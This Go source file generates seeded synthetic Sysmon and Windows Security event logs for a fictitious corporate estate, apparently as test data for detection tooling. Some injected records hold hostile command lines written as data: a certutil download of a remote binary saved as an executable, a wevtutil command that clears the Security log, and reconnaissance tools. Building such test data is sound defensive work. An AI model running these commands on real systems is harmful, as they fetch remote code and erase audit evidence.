package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"
)

// estate invents the records of a few devices, the same for the same seed: processes with what they do, in the one-line form of event forwarders. A process
// names its parent only when it starts, so what the lake says about the initiator of everything else depends on what came before it.
type estate struct {
	rng     *rand.Rand
	now     time.Time
	number  int
	devices []*workplace
}

type workplace struct {
	name, user string
	running    []*started
}

type started struct {
	pid                  int
	guid, image, command string
	parent               *started
}

func newEstate(devices int) *estate {
	e := &estate{rng: rand.New(rand.NewPCG(1, 2)), now: time.Date(2024, 5, 6, 7, 0, 0, 0, time.UTC)}
	for i := range devices {
		d := &workplace{name: fmt.Sprintf("ws%d.corp.example", i+1), user: fmt.Sprintf(`CORP\user%d`, i+1)}
		d.running = []*started{{pid: 600, guid: e.guid(), image: `C:\Windows\explorer.exe`, command: "explorer.exe"}}
		e.devices = append(e.devices, d)
	}
	return e
}

func (e *estate) guid() string {
	return fmt.Sprintf("{%08x-%04x-%04x-%04x-%012x}", e.rng.Uint32(), e.rng.IntN(1<<16), e.rng.IntN(1<<16), e.rng.IntN(1<<16), e.rng.Uint64N(1<<48))
}

// programs are what people start; some of it is what detections look for.
var (
	programs = []string{`C:\Program Files\Acme\acme.exe`, `C:\Windows\System32\notepad.exe`, `C:\Windows\System32\cmd.exe`, `C:\Program Files\Office\writer.exe`}
	curious  = []string{"whoami.exe", "ipconfig.exe", "systeminfo.exe", "nltest.exe", "netstat.exe"}
)

// records returns the next n records as JSON Lines.
func (e *estate) records(n int) []byte {
	var b bytes.Buffer
	for range n {
		line, _ := json.Marshal(e.record()) // a map of strings
		b.Write(line)
		b.WriteByte('\n')
	}
	return b.Bytes()
}

func (e *estate) record() map[string]any {
	e.number++
	e.now = e.now.Add(150 * time.Millisecond)
	d := e.devices[e.rng.IntN(len(e.devices))]
	p := d.running[e.rng.IntN(len(d.running))]
	switch {
	case e.number%997 == 0:
		return e.start(d, p, `C:\Windows\System32\certutil.exe`, fmt.Sprintf("certutil.exe -urlcache -split -f http://192.0.2.%d/a.bin a.exe", e.rng.IntN(250)))
	case e.number%1303 == 0:
		return e.start(d, p, `C:\Windows\System32\wevtutil.exe`, "wevtutil.exe cl Security")
	case e.number%1511 < len(curious):
		name := curious[e.number%1511]
		d = e.devices[e.number/1511%len(e.devices)]
		return e.start(d, d.running[0], `C:\Windows\System32\`+name, name)
	case e.number%389 == 0:
		return e.ticket(d)
	}
	switch e.rng.IntN(9) {
	case 0, 1:
		image := programs[e.rng.IntN(len(programs))]
		return e.start(d, p, image, fmt.Sprintf("%q --job %d", image, e.number))
	case 2:
		return e.does(d, p, 3, map[string]any{
			"Protocol": "tcp", "Initiated": "true", "SourceIp": "10.0.0.5", "SourcePort": 50000, "DestinationIp": fmt.Sprintf("198.51.100.%d", e.rng.IntN(250)), "DestinationPort": 443,
		})
	case 3:
		return e.does(d, p, 11, map[string]any{"TargetFilename": fmt.Sprintf(`C:\Users\Public\file%d.txt`, e.number)})
	case 4:
		return e.does(d, p, 13, map[string]any{"EventType": "SetValue", "TargetObject": fmt.Sprintf(`HKU\S-1-5-21-1-2-3-1001\Software\Acme\value%d`, e.number), "Details": "1"})
	case 5:
		return e.does(d, p, 22, map[string]any{"QueryName": fmt.Sprintf("host%d.example", e.number), "QueryStatus": "0", "QueryResults": "198.51.100.7;"})
	case 6:
		return e.does(d, p, 7, map[string]any{"ImageLoaded": `C:\Windows\System32\acme.dll`, "Signed": "true", "SignatureStatus": "Valid"})
	case 7:
		return e.does(d, p, 23, map[string]any{"TargetFilename": fmt.Sprintf(`C:\Users\Public\file%d.txt`, e.number-20), "IsExecutable": "false"})
	}
	if len(d.running) > 12 {
		d.running = append(d.running[:1], d.running[2:]...)
		return e.does(d, p, 5, map[string]any{})
	}
	return e.does(d, p, 17, map[string]any{"PipeName": fmt.Sprintf(`\acme-%d`, e.number), "EventType": "CreatePipe"})
}

// rendered stands for the text that forwarders send along. It makes records as long as they are outside, so that a commit takes fewer of them.
var rendered = strings.Repeat("The rendered text of the event. ", 125)

func (e *estate) event(device, channel, provider string, id int, data map[string]any) map[string]any {
	data["Message"] = rendered
	data["EventTime"], data["Hostname"], data["Channel"], data["SourceName"], data["EventID"], data["RecordNumber"] =
		e.now.Format("2006-01-02 15:04:05"), device, channel, provider, id, e.number
	return data
}

func (e *estate) does(d *workplace, p *started, id int, data map[string]any) map[string]any {
	data["UtcTime"] = e.now.Format("2006-01-02 15:04:05.000")
	data["ProcessGuid"], data["ProcessId"], data["Image"], data["User"] = p.guid, p.pid, p.image, d.user
	return e.event(d.name, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", id, data)
}

func (e *estate) start(d *workplace, parent *started, image, command string) map[string]any {
	p := &started{pid: 1000 + e.rng.IntN(60000), guid: e.guid(), image: image, command: command, parent: parent}
	d.running = append(d.running, p)
	return e.does(d, p, 1, map[string]any{
		"CommandLine": command, "IntegrityLevel": "Medium", "LogonId": "0x3e7ab", "Hashes": fmt.Sprintf("SHA256=%064x", len(image)),
		"ParentProcessGuid": parent.guid, "ParentProcessId": parent.pid, "ParentImage": parent.image, "ParentCommandLine": parent.command,
	})
}

// ticket is a sign-in that the domain controller saw; from the first on it is known for what it is.
func (e *estate) ticket(d *workplace) map[string]any {
	return e.event("dc1.corp.example", "Security", "Microsoft-Windows-Security-Auditing", 4768, map[string]any{
		"TargetUserName": d.user[5:], "TargetDomainName": "CORP.EXAMPLE", "TargetSid": "S-1-5-21-1-2-3-" + strconv.Itoa(1000+e.rng.IntN(9)), "ServiceName": "krbtgt", "ServiceSid": "S-1-5-21-1-2-3-502",
		"TicketOptions": "0x40810010", "Status": "0x0", "TicketEncryptionType": "0x12", "PreAuthType": "2", "IpAddress": "::ffff:10.0.0.5", "IpPort": "50111",
	})
}
